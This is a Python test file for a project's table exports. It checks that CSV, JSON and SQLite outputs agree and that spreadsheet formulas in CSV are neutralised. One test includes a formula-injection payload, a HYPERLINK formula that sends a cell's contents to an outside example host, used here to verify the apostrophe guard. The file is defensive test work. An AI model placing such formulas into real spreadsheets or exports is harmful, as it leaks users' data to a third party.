"""The tables' definitions, and that CSV, JSON and SQLite say the same."""

import csv
import datetime as dt
import io
import json
import sqlite3
from collections.abc import Callable, Iterator, Mapping
from contextlib import closing
from decimal import Decimal
from enum import StrEnum
from typing import Annotated, Any

import pytest

from briefing.corpus import Corpus
from briefing.outputs.api import api_files
from briefing.outputs.database import database
from briefing.outputs.dataset import Dataset, collect
from briefing.outputs.rows import EXPORTED, tables_of
from briefing.outputs.tables import (
    Column,
    ColumnType,
    Indexed,
    Key,
    Row,
    Table,
    To,
    columns_of,
    table_csv,
    text,
    uninert,
)
from briefing.view import Site, View, look

Case = Callable[..., View]


class Colour(StrEnum):
    """Colours."""

    RED = "red"
    BLUE = "blue"


class Thing(Row):
    """One thing a row."""

    id: Annotated[str, Key()]
    """Its id."""
    owner: Annotated[str | None, To("owners")]
    """Who has it,
    if anyone."""
    colour: Annotated[Colour, Indexed()]
    """Its colour."""
    size: Decimal
    """Its size."""
    made: dt.date | None
    """When it was made."""
    whole: bool
    """Whether it is whole."""
    parts: tuple[str, ...]
    """Its parts."""
    count: int
    """How many there are."""


def test_a_row_is_its_tables_definition() -> None:
    """Types, keys, links, what may be empty, and the meaning of each column."""
    assert (
        Column("id", ColumnType.STRING, "Its id.", True, (), True, None, False),
        Column("owner", ColumnType.STRING, "Who has it, if anyone.", False, (), False, "owners", False),
        Column("colour", ColumnType.STRING, "Its colour.", True, ("red", "blue"), False, None, True),
        Column("size", ColumnType.NUMBER, "Its size.", True, (), False, None, False),
        Column("made", ColumnType.DATE, "When it was made.", False, (), False, None, False),
        Column("whole", ColumnType.BOOLEAN, "Whether it is whole.", True, (), False, None, False),
        Column("parts", ColumnType.LIST, "Its parts.", False, (), False, None, False),
        Column("count", ColumnType.INTEGER, "How many there are.", True, (), False, None, False),
    ) == columns_of(Thing)
    assert "One thing a row." == Table("things", Thing, ()).meaning


def test_a_row_as_csv() -> None:
    """Empty for nothing; exact numbers; ISO 8601; lists with spaces; formulas inert."""
    row = Thing(
        id="=1+1", owner=None, colour=Colour.BLUE, size=Decimal("-1E+3"), made=dt.date(2022, 2, 5),
        whole=False, parts=("a", "b#c"), count=3,
    )  # fmt: skip
    assert (
        "id,owner,colour,size,made,whole,parts,count\r\n'=1+1,,blue,-1000,2022-02-05,false,a b#c,3\r\n"
        == table_csv(Table("things", Thing, (row,)))
    )


# --- three forms of one record -----------------------------------------------------------


def csv_rows(table: Table) -> list[dict[str, str]]:
    """Return a table's rows as a program reads them from CSV, the guard against formulas undone."""
    read = csv.DictReader(io.StringIO(table_csv(table), newline=""), strict=True)
    return [{name: uninert(cell) for name, cell in row.items()} for row in read]


def same(stored: object, column: Column) -> str:
    """Return a value of the database as the CSV writes it."""
    if stored is None:
        return ""
    if column.type is ColumnType.BOOLEAN:
        return "true" if stored else "false"
    return str(stored)


def alike(one: str, other: str, column: Column) -> bool:
    """Whether two cells hold the same: numbers by their value, all else letter by letter."""
    if column.type is ColumnType.NUMBER and one and other:
        return Decimal(one) == Decimal(other)
    return one == other


def test_csv_and_database_are_equal(real_view: View) -> None:
    """Every cell of every table that is a file is the same in the database, in the same order."""
    tables = {t.name: t for t in tables_of(collect(real_view))}
    with closing(sqlite3.connect(":memory:")) as connection:
        connection.deserialize(database(tuple(tables.values())))
        for name in EXPORTED:
            table = tables[name]
            stored = connection.execute(f'SELECT * FROM "{name}" ORDER BY rowid').fetchall()  # noqa: S608 - our names
            rows = csv_rows(table)
            assert len(rows) == len(stored) > 0
            for row, values in zip(rows, stored, strict=True):
                for column, value in zip(table.columns, values, strict=True):
                    assert alike(row[column.name], same(value, column), column), (name, row, column.name)


COMPUTED = {
    "briefs": {"authors", "claim_count", "correction_count"},
    "claims": {"origin", "origin_count", "document_count", "behind_count", "response_count"},
    "citations": {"claim", "response", "chain"},
    "sources": {"author", "publisher", "publisher_name", "archive", "cited_count", "behind_count"},
    "entities": {"names", "weak_names", "identifiers", "appearance_count"},
    "figures": set[str](),
}
"""Columns that sum up what a record says at more length."""


def flat(record: Mapping[str, Any]) -> dict[str, str]:
    """Return what a JSON record says as a row would: dates in three columns, lists with spaces."""
    row: dict[str, str] = {}
    for key, value in record.items():
        if isinstance(value, dict) and "edtf" in value:
            row |= {f"{key}_{part}": value[part] or "" for part in ("edtf", "first", "last")}
        elif isinstance(value, list) and all(isinstance(v, str) for v in value):
            row[key] = " ".join(value)
        elif isinstance(value, bool):
            row[key] = "true" if value else "false"
        elif value is None:
            row |= {key: ""} | {f"{key}_{part}": "" for part in ("edtf", "first", "last")}
        elif isinstance(value, (str, int, float)):
            row[key] = str(value)
    return row


def json_records(data: Dataset) -> Iterator[tuple[str, list[dict[str, Any]]]]:
    """Yield the records of the JSON that make each table."""
    read = {a.uri: json.loads(a.content) for a in api_files(data)}
    for name in ("briefs", "claims", "sources", "entities"):
        yield name, read[f"api/v1/{name}.json"]["items"]
    claims = read["api/v1/claims.json"]["items"]
    yield "figures", [f for c in claims for f in c["figures"]]
    yield (
        "citations",
        [x for c in claims for x in (*c["citations"], *(y for r in c["responses"] for y in r["citations"]))],
    )


def test_csv_and_json_are_equal(real_view: View) -> None:
    """Every column that is not a sum of others holds what the JSON's key of that name holds."""
    data = collect(real_view)
    tables = {t.name: t for t in tables_of(data)}
    seen = set()
    for name, records in json_records(data):
        seen.add(name)
        columns = [c for c in tables[name].columns if c.name not in COMPUTED[name]]
        rows = csv_rows(tables[name])
        assert len(records) == len(rows) > 0
        for record, row in zip(records, rows, strict=True):
            told = flat(record)
            for column in columns:
                assert alike(told[column.name], row[column.name], column), (name, row, column.name)
    assert set(EXPORTED) == seen


def test_what_is_summed_up_is_right(case_view: Case) -> None:
    """Counts, names in words, and the chain that a citation gives itself."""
    tables = {t.name: t for t in tables_of(collect(case_view("everything")))}
    (brief,) = csv_rows(tables["briefs"])
    assert ("A. Writer", "5", "1") == (brief["authors"], brief["claim_count"], brief["correction_count"])
    thefts, *_, withdrawn = csv_rows(tables["claims"])
    counts = ("origin_count", "document_count", "behind_count", "response_count")
    assert ["1", "2", "2", "2"] == [thefts[c] for c in counts]
    assert ("one state", "Kim Min-su (spokesman)") == (thefts["origin"], withdrawn["origin"])
    cited = [
        (r["claim"], r["response"], r["source"], r["chain"], r["via"]) for r in csv_rows(tables["citations"])
    ]
    ref = "2022-02-05-report#thefts"
    assert [
        (ref, "0", "paper", "source", ""),
        (ref, "0", "unsigned", "citation", "wire report"),
        (ref, "1", "paper", "source", ""),
        (ref, "2", "letter", "source", ""),
    ] == [row for row in cited if row[0] == ref]
    sources = {r["id"]: r for r in csv_rows(tables["sources"])}
    assert ("panel", "the Panel", "0", "3") == tuple(
        sources["report"][c] for c in ("publisher", "publisher_name", "cited_count", "behind_count")
    )
    assert ("", "The Wire") == (sources["wire"]["publisher"], sources["wire"]["publisher_name"])
    entities = {r["id"]: r for r in csv_rows(tables["entities"])}
    assert ("그 나라", "state") == (entities["state"]["names"], entities["ambassador"]["part_of"])


def test_a_formula_is_guarded_in_csv_only(corpus_of: Callable[..., Corpus]) -> None:
    """JSON and SQLite hold it letter by letter; a spreadsheet gets an apostrophe more."""
    formula = '=HYPERLINK("https://example.org/?"&A1)'
    data = collect(
        look(corpus_of(f"{{by: {{name: '{formula}', role: '@here'}}, text: '{formula}'}}"), Site("S"))
    )
    tables = {t.name: t for t in tables_of(data)}
    (raw,) = csv.DictReader(io.StringIO(table_csv(tables["claims"]), newline=""))
    assert ("'" + formula, f"'{formula} (@here)") == (raw["text"], raw["origin"])
    assert formula == csv_rows(tables["claims"])[0]["text"]
    (claims,) = (a.content for a in api_files(data) if a.uri == "api/v1/claims.json")
    assert formula == json.loads(claims)["items"][0]["text"]
    with closing(sqlite3.connect(":memory:")) as connection:
        connection.deserialize(database(tuple(tables.values())))
        assert [(formula, "@here")] == connection.execute("SELECT name, role FROM parties").fetchall()


@pytest.mark.parametrize("name", [*EXPORTED, "names", "responses", "parties"])
def test_hostile_text_comes_back(name: str, case_view: Case) -> None:
    """Quotes, pipes, tags and braces are letters to CSV."""
    table = next(t for t in tables_of(collect(case_view("hostile"))) if t.name == name)
    names = [c.name for c in table.columns]
    expected = [dict(zip(names, map(text, table.cells(r)), strict=True)) for r in table.rows]
    assert expected == csv_rows(table)
    assert expected
